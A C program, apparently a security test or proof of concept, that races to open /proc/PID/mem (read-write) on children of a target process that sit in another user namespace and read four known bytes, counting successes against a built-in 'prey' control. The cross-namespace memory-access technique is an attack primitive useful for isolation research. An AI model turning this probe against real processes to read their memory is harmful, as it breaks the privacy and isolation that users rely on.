/*
 * thief PID ADDRESS: looks for children of that process in another user namespace while its standard input is open, and
 * tries to read the four bytes "\x7f" "ELF" at the address in the memory of each. Then prints how often it saw a child,
 * and how often it found the bytes.
 *
 * thief prey: a process for the control: prints its pid and an address, and has a child in a user namespace that shares
 * its memory.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <poll.h>
#include <sched.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#define MOST_THREADS 64

static const char magic[] = "\x7f" "ELF";

static int wait_for_ever(void *argument)
{
	for (;;) pause();
	return argument != NULL;
}

static int be_prey(void)
{
	static _Alignas(16) char stack[65536];
	char end;

	if (clone(wait_for_ever, stack + sizeof stack, CLONE_VM | CLONE_NEWUSER, NULL) < 0) return 1;
	printf("%d %lu\n", getpid(), (unsigned long)(uintptr_t)magic);
	fflush(stdout);
	return read(0, &end, 1) != 0;
}

/* A child that is about to execute a program shares the memory too, but has no other user namespace. */
static int is_elsewhere(int child)
{
	char name[64];
	char own[64] = "";
	char its[64] = "";

	snprintf(name, sizeof name, "/proc/%d/ns/user", child);
	if (readlink("/proc/self/ns/user", own, sizeof own - 1) < 0) return 0;
	return readlink(name, its, sizeof its - 1) > 0 && strcmp(own, its) != 0;
}

static int steal(int child, unsigned long address)
{
	char name[64];
	char found[4] = "";
	int memory;

	if (!is_elsewhere(child)) return 0;
	snprintf(name, sizeof name, "/proc/%d/mem", child);
	memory = open(name, O_RDWR);
	if (memory < 0) return 0;
	if (pread(memory, found, sizeof found, (off_t)address) < 0) found[0] = 0;
	close(memory);
	return memcmp(found, magic, sizeof found) == 0;
}

int main(int argc, char **argv)
{
	struct pollfd input = {.fd = 0, .events = POLLIN};
	int lists[MOST_THREADS];
	int count = 0;
	unsigned long seen = 0;
	unsigned long read_ = 0;
	unsigned long address;
	char name[64];
	struct dirent *entry;
	DIR *threads;

	if (argc == 2) return be_prey();
	if (argc != 3) return 2;
	address = strtoul(argv[2], NULL, 10);
	snprintf(name, sizeof name, "/proc/%s/task", argv[1]);
	threads = opendir(name);
	while (threads != NULL && (entry = readdir(threads)) != NULL && count < MOST_THREADS) {
		snprintf(name, sizeof name, "/proc/%s/task/%.20s/children", argv[1], entry->d_name);
		lists[count] = open(name, O_RDONLY);
		if (lists[count] >= 0) count++;
	}
	puts("ready");
	fflush(stdout);
	do {
		for (int round = 0; round < 1000; round++) {
			for (int i = 0; i < count; i++) {
				char list[256];
				ssize_t length = pread(lists[i], list, sizeof list - 1, 0);
				char *rest = NULL;

				if (length <= 0) continue;
				list[length] = '\0';
				for (char *word = strtok_r(list, " ", &rest); word != NULL; word = strtok_r(NULL, " ", &rest)) {
					int child = atoi(word);

					if (child == getpid() || child == getppid()) continue;
					seen++;
					read_ += (unsigned long)steal(child, address);
				}
			}
		}
	} while (poll(&input, 1, 0) == 0);
	printf("%lu %lu\n", seen, read_);
	return 0;
}
